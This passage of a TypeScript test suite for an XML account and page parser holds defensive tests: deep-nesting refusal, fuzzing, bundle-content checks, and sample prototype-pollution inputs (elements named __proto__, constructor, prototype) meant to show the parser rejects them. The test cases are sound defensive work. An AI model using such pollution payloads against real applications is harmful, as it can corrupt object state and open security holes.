      refusal(() => parseAccountXml(account(`${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`)));
      refusal(() =>
        parsePageXml(
          page(`<charitysplits>${'<customCodes>'.repeat(depth)}${'</customCodes>'.repeat(depth)}</charitysplits>`),
        ),
      );
      expect(performance.now() - started).toBeLessThan(5000);
    },
  );
});

describe('prototype pollution', () => {
  const names = ['__proto__', 'constructor', 'prototype'];

  it.each(names)('an element named %s never touches Object.prototype, and never yields a partial payload', (name) => {
    const before = Object.getOwnPropertyNames(Object.prototype).sort();
    const documents = [
      account(`<${name}><polluted>yes</polluted></${name}>`),
      account(`<${name}>x</${name}>`),
      account(`<title>Mr</title><${name}><prototype><polluted>yes</polluted></prototype></${name}>`),
    ];
    for (const xml of documents) {
      let read: unknown;
      try {
        read = parseAccountXml(xml);
      } catch (error) {
        // Refusing the name is one safe answer; it must be a whole-body refusal.
        expect(error).toBeInstanceOf(XmlBodyError);
        continue;
      }
      // Reading it is the other: then it is an own field, like any other.
      expect(Object.getPrototypeOf(read)).toBe(Object.prototype);
      expect(Object.getOwnPropertyNames(read)).toContain(name);
    }
    for (const xml of [
      page(`<charitysplits><${name}><polluted>yes</polluted></${name}></charitysplits>`),
      page(`<${name}><polluted>1</polluted></${name}>`),
    ]) {
      try {
        const read = parsePageXml(xml) as Record<string, unknown>;
        expect(Object.getPrototypeOf(read)).toBe(Object.prototype);
      } catch (error) {
        expect(error).toBeInstanceOf(XmlBodyError);
      }
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(before);
    expect(Object.prototype.constructor).toBe(Object);
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  });

  it('a root named __proto__ or constructor is a wrong root', () => {
    refusal(() => parseAccountXml('<__proto__><polluted>yes</polluted></__proto__>'));
    refusal(() => parsePageXml('<constructor><polluted>yes</polluted></constructor>'));
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('never a partial payload', () => {
  const tokens = [
    '<fundraiserAccount>',
    '</fundraiserAccount>',
    '<fundraiserAccount/>',
    '<title>',
    '</title>',
    '<fundraiserCustomCode>',
    '</fundraiserCustomCode>',
    'Mr',
    ' ',
    '\n',
    '&amp;',
    '&nbsp;',
    '&#65;',
    '&',
    '<',
    '>',
    '"',
    '<!-- c -->',
    '<![CDATA[x]]>',
    '<?xml version="1.0"?>',
    '<!DOCTYPE a>',
    '<a b="1">',
    '</a>',
    '<x/>',
  ];

  it('any string of XML-like tokens: either an XmlBodyError, or an object (never an array, a string or another error)', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...tokens), { maxLength: 12 }), (parts) => {
        const text = parts.join('');
        let read: unknown;
        try {
          read = parseAccountXml(text);
        } catch (error) {
          expect(error).toBeInstanceOf(XmlBodyError);
          return;
        }
        expect(typeof read === 'object' && read !== null && !Array.isArray(read)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('any string at all never throws anything but XmlBodyError', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
        try {
          parsePageXml(text);
          parseAccountXml(`<fundraiserAccount><surname>${text}</surname></fundraiserAccount>`);
        } catch (error) {
          expect(error).toBeInstanceOf(XmlBodyError);
        }
      }),
      { numRuns: 500 },
    );
  });
});

// ---------------------------------------------------------------------------
// The core entry does not carry the XML parser

interface Measured {
  inputs: string[];
  errors: string[];
  nodeBuiltins: string[];
  code: string;
}
interface BundleScript {
  measureBundle(source: string, name?: string): Promise<Measured>;
}
const script: BundleScript = await import(new URL('../scripts/bundle-size.mjs', import.meta.url).href);

describe('bundles', () => {
  const isXmlParser = (file: string): boolean => file.includes('node_modules/fast-xml-parser/');

  it('the whole core entry (src/index.ts) has no fast-xml-parser and no src/formats/xml.ts among its inputs', async () => {
    const core = await script.measureBundle("export * from './src/index.ts';", 'core-all');
    expect(core.errors).toEqual([]);
    expect(core.inputs).toContain('src/index.ts');
    expect(core.inputs.filter(isXmlParser)).toEqual([]);
    expect(core.inputs).not.toContain('src/formats/xml.ts');
    expect(core.code).not.toContain('XMLParser');
  });

  it('the XML entry (src/formats/xml.ts) does carry fast-xml-parser, for the browser', async () => {
    const xml = await script.measureBundle(
      "export { parseAccountXml, parsePageXml, XmlBodyError } from './src/formats/xml.ts';",
      'xml',
    );
    expect(xml.errors).toEqual([]);
    expect(xml.nodeBuiltins).toEqual([]);
    expect(xml.inputs).toContain('src/formats/xml.ts');
    expect(xml.inputs.filter(isXmlParser).length).toBeGreaterThan(0);
  });
});
